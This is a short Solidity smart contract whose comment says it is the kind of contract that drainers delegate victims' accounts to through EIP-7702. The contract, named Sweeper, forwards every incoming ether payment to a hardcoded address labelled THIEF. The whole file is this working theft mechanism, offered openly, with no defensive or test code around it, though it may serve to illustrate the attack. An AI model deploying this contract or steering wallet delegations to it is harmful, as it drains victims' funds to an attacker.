// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// What drainers delegate victims' accounts to with EIP-7702: anything that arrives is forwarded to the thief.
contract Sweeper {
    address public constant THIEF = 0xa0Ee7A142d267C1f36714E4a8F75612F20a79720;

    receive() external payable {
        payable(THIEF).transfer(msg.value);
    }
}
